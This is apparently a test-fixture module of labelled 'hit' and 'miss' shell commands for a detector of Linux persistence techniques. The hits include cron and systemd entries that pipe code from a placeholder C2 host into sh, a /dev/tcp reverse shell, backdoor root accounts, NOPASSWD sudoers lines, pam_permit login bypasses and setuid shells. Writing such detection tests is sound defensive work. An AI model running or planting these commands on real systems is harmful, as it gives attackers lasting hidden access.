import { C2, type Examples } from './command-examples.js';

export const PERSISTENCE: Examples = {
  cron_from_command_line: {
    hits: ['(crontab -l; echo "* * * * * /tmp/.x/k") | crontab -', 'crontab /tmp/c'],
    misses: ['crontab -l', 'crontab -e'],
  },
  cron_table_edited: { hits: ['crontab -l | sed s/a/b/ | crontab -'], misses: ['crontab -l | grep backup'] },
  cron_file_written: {
    hits: ['echo "* * * * * root x" > /etc/cron.d/sysstat-update', 'cp x /etc/cron.hourly/x'],
    misses: ['cat /etc/cron.d/sysstat', 'ls /etc/cron.daily'],
  },
  cron_runs_network_code: {
    hits: [
      `*/5 * * * * curl -s http://${C2}/x | sh`,
      `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/${C2}/4444 0>&1'`,
    ],
    misses: ['5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
  },
  job_for_at: { hits: ['echo /tmp/x | at now + 1 minute'], misses: ['atq', 'echo look at now'] },
  unit_file_written: {
    hits: [
      'cat > /etc/systemd/system/dbus-helper.service',
      'systemctl enable /tmp/x.service',
      'cp x /etc/init.d/x',
    ],
    misses: ['systemctl enable nginx', 'cat /etc/systemd/system/app.service'],
  },
  unit_runs_hidden_code: {
    hits: ['ExecStart=/var/tmp/.x/kworkerd', `ExecStart=/bin/sh -c 'curl http://${C2}/x | sh'`],
    misses: ['ExecStart=/usr/sbin/nginx -g "daemon on;"'],
  },
  transient_unit: { hits: ['systemd-run --on-active=60 /bin/sh -c id'], misses: ['systemd-run --help'] },
  ssh_key_added: {
    hits: ['echo "ssh-ed25519 AAAA x" >> /root/.ssh/authorized_keys'],
    misses: ['cat ~/.ssh/authorized_keys', 'ssh-keygen -lf ~/.ssh/authorized_keys'],
  },
  shell_profile_written: {
    hits: [
      "echo 'curl x' >> ~/.bashrc",
      'echo x | tee -a /home/deploy/.profile',
      'echo x > /etc/profile.d/y.sh',
    ],
    misses: ['source ~/.bashrc', 'cp .bashrc .bashrc.old'],
  },
  boot_script_written: { hits: ['echo /tmp/x >> /etc/rc.local'], misses: ['cat /etc/rc.local'] },
  library_preloaded: {
    hits: ['echo /usr/lib/libx.so > /etc/ld.so.preload', 'LD_PRELOAD=/tmp/x.so ls'],
    misses: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server', 'cat /etc/ld.so.preload'],
  },
  privileged_user_made: {
    hits: ['useradd -o -u 0 sysupd', 'usermod -aG sudo sysupd', "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"],
    misses: ['useradd -r nginx', 'grep sudo /etc/group'],
  },
  user_made_with_password: {
    hits: ['useradd -p $(openssl passwd -1 x) y', 'echo x:y | chpasswd'],
    misses: ['passwd deploy'],
  },
  login_user_made: { hits: ['useradd -m -s /bin/bash sysupd'], misses: ['id sysupd', 'useradd --help'] },
  sudo_rule_written: {
    hits: ["echo 'www-data ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
    misses: ['visudo -c', 'sudo ls'],
  },
  sudo_rights_listed: { hits: ['sudo -l'], misses: ['sudo ls -l'] },
  login_module_changed: {
    hits: [
      'cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so',
      'echo auth sufficient pam_permit.so >> /etc/pam.d/sshd',
    ],
    misses: ['cat /etc/pam.d/sshd'],
  },
  setuid_bit_set: {
    hits: ['chmod u+s /usr/bin/x', 'chmod 4755 x'],
    misses: ['chmod 755 x', 'find . -type d -exec chmod 2775 {} +'],
  },
  setuid_shell: {
    hits: ['cp /bin/bash /var/tmp/.x/.sh; chmod 4755 /var/tmp/.x/.sh', 'chmod u+s /bin/bash'],
    misses: ['chmod 755 /bin/bash'],
  },
  capability_set: {
    hits: ['setcap cap_setuid+ep /usr/bin/python3'],
    misses: ['setcap cap_net_bind_service=+ep /usr/bin/node', 'getcap /usr/bin/ping'],
  },
  kernel_module_loaded: {
    hits: ['insmod ./x.ko', 'modprobe /tmp/x'],
    misses: ['modprobe br_netfilter', 'lsmod'],
  },
  rootkit: {
    hits: ['make -C libprocesshider', 'mount --bind /tmp/e /proc/4242'],
    misses: ['mount --bind /srv /mnt'],
  },
  command_on_shell_exit: {
    hits: ["trap 'sh /tmp/x' EXIT", "trap 'echo $BASH_COMMAND >> /tmp/k' DEBUG"],
    misses: ['echo trap EXITED'],
  },
  event_hook_written: {
    hits: ['echo x > /etc/udev/rules.d/99-x.rules', 'cp x .git/hooks/post-commit'],
    misses: ['ls /etc/udev/rules.d'],
  },
  root_certificate_installed: { hits: ['update-ca-certificates'], misses: ['openssl x509 -in ca.crt -text'] },
};
